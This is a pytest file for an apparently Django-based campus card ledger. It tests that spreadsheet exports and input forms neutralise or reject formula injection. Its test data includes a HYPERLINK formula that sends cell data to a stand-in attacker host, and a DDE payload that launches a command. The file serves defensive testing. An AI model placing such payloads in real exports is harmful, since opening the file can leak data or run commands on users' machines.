"""Issue 20, item 3: no spreadsheet formula reaches an export; identifiers are checked on input.

The trial typed a fee window ``=HYPERLINK(…)`` / ``=cmd|' /C calc'!A0`` and imported student
numbers ``+1+1`` / ``@SUM(1+1)``; the ledger's CSV carried them raw and its XLSX as live formula
cells. Every CSV/XLSX writer now goes through ``ops.spreadsheet`` (a leading ``= + - @``, tab or
CR gets an apostrophe and the cell stays text), the fee services refuse such a window, and the
list import refuses such a number (row, column, reason)."""

from __future__ import annotations

import ast
import csv
import io
from datetime import date
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from ops.accounts.roles import Role
from ops.accounts.services import create_or_update_operator
from ops.registry import citizen_id
from ops.registry.lifecycle import importing, services
from ops.registry.lifecycle.errors import CardRuleError
from ops.registry.lifecycle.models import FeeCharge
from ops.registry.models import Cardholder
from ops.spreadsheet import cell, csv_bytes

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent
PAYLOADS = ['=HYPERLINK("http://ev.il/?"&A1,"对账")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1+1)", "-2+3"]


@pytest.mark.parametrize("payload", [*PAYLOADS, "\t=1+1", "\r=1+1"])
def test_a_formula_looking_text_becomes_text(payload):
    assert cell(payload) == "'" + payload
    assert cell("一号窗口") == "一号窗口" and cell(-3) == -3 and cell("2025CS00001") == "2025CS00001"
    rows = list(csv.reader(io.StringIO(csv_bytes(["h"], [[payload]]).decode("utf-8-sig"), newline="")))
    assert rows == [["h"], ["'" + payload]]


def _ledger_with(campus, windows: list[str], numbers: list[str]):
    nic = create_or_update_operator(username="nic", password="pw-nic-12345", role=Role.NIC, is_superuser=True)
    for i, (window, number) in enumerate(zip(windows, numbers, strict=True)):
        card = campus.cards[i]
        services.replace_card(card=card, new_uid=f"FEE0000{i}", operator=nic, reason="loss", basis="补卡", window="W")
        # what an older version let in (a window typed at the desk, a number from a list)
        FeeCharge.objects.filter(card__uid=f"FEE0000{i}").update(window=window)
        Cardholder.objects.filter(pk=card.holder_id).update(number=number)
    return nic


def test_the_ledger_exports_carry_no_live_formula(campus, client):
    numbers = ["+1+1", "@SUM(1+1)", "-1+2", "=1+1", "2025CS00004"]
    _ledger_with(campus, PAYLOADS, numbers)
    client.post("/accounts/login/", {"username": "nic", "password": "pw-nic-12345"})
    today = timezone.localdate()
    body = client.get(f"/admin/cards/feecharge/export/?from={today}&to={today}&format=csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))[1:]
    assert [r[3] for r in rows] == ["'" + p for p in PAYLOADS]  # 收费窗口
    assert [r[5] for r in rows] == ["'+1+1", "'@SUM(1+1)", "'-1+2", "'=1+1", "2025CS00004"]  # 学工号
    for r in rows:
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in r), r

    xlsx = client.get(f"/admin/cards/feecharge/export/?from={today}&to={today}&format=xlsx").content
    book = load_workbook(io.BytesIO(xlsx))
    formulas = [c.coordinate for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    detail = book["明细"]
    assert [detail.cell(row=i, column=4).value for i in range(2, 7)] == ["'" + p for p in PAYLOADS]
    assert detail.cell(row=2, column=6).value == "'+1+1"
    summary_windows = {book["汇总"].cell(row=i, column=3).value for i in range(2, 7)}
    assert summary_windows == {"'" + p for p in PAYLOADS}
    # the numbers stay numbers (amounts, counts)
    assert detail.cell(row=2, column=9).value == 20 and detail.cell(row=2, column=9).data_type == "n"


@pytest.mark.parametrize("window", ['=HYPERLINK("http://x")', "=cmd|' /C calc'!A0", "+1", "@A1", "-1"])
def test_the_fee_services_refuse_a_formula_as_window_and_change_nothing(campus, window):
    nic = create_or_update_operator(username="nic", password="pw-nic-12345", role=Role.NIC, is_superuser=True)
    card = campus.cards[0]
    with pytest.raises(CardRuleError, match="收费窗口名称不能以"):
        services.replace_card(card=card, new_uid="FEE0000A", operator=nic, reason="loss", basis="补卡", window=window)
    card.refresh_from_db()
    assert card.status == "active" and not FeeCharge.objects.exists()


def _student_list(numbers: list[str]) -> bytes:
    lines = ["学号,姓名,学系,班级,身份证号"]
    for i, number in enumerate(numbers):
        lines.append(f"{number},学生{i},保卫处,2026-1,{citizen_id.make('440507', date(2007, 1, 2), 100 + i)}")
    return ("\n".join(lines) + "\n").encode()


def test_the_import_refuses_a_formula_as_student_number(campus):
    nic = create_or_update_operator(username="nic", password="pw-nic-12345", role=Role.NIC, is_superuser=True)
    data = _student_list(["+1+1", "@SUM(1+1)", "=1+1", "2026CS 01", "2026CS00002", "-7"])
    batch = importing.preview_import(kind="student", filename="新生.csv", data=data, operator=nic)
    rejected = {(e["row"], e["value"]): e["message"] for e in batch.plan["rejected"]}
    for row, number in [(2, "+1+1"), (3, "@SUM(1+1)"), (4, "=1+1"), (5, "2026CS 01"), (7, "-7")]:
        assert "学号/工号只能由字母和数字组成" in rejected[(row, number)], (row, number)
    assert [c["number"] for c in batch.plan["create"]] == ["2026CS00002"]
    importing.apply_import(batch=batch, operator=nic)
    assert not Cardholder.objects.filter(number__in=["+1+1", "@SUM(1+1)", "=1+1", "-7"]).exists()
    assert Cardholder.objects.filter(number="2026CS00002").exists()


def test_the_admin_form_refuses_a_formula_as_number(campus, client):
    create_or_update_operator(username="nic", password="pw-nic-12345", role=Role.NIC, is_superuser=True)
    client.post("/accounts/login/", {"username": "nic", "password": "pw-nic-12345"})
    r = client.post(
        "/admin/campus/cardholder/add/",
        {
            "kind": "student",
            "number": "@SUM(1+1)",
            "name": "赵六",
            "department": campus.dept.pk,
            "status": "active",
            "cards-TOTAL_FORMS": "0",
            "cards-INITIAL_FORMS": "0",
        },
    )
    assert r.status_code == 200 and "学号/工号只能由字母和数字组成" in r.content.decode()
    assert not Cardholder.objects.filter(number="@SUM(1+1)").exists()


def test_every_spreadsheet_writer_goes_through_the_one_helper():
    """A new export that writes cells itself would skip the neutralising: only ops/spreadsheet.py
    holds a csv writer, and every module that makes a workbook takes its rows from it."""
    offenders = []
    for path in [*(ROOT / "ops").rglob("*.py"), *(ROOT / "dashboard").rglob("*.py")]:
        if path.name == "spreadsheet.py" or "migrations" in path.parts:
            continue
        tree = ast.parse(path.read_text())
        imported = {
            (node.module, alias.name)
            for node in ast.walk(tree)
            if isinstance(node, ast.ImportFrom)
            for alias in node.names
        }
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "writerow", "writerows"):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} csv.{node.attr}")
        if ("openpyxl", "Workbook") in imported and not any(m == "ops.spreadsheet" for m, _n in imported):
            offenders.append(f"{path.relative_to(ROOT)} makes a workbook without ops.spreadsheet")
    assert offenders == []
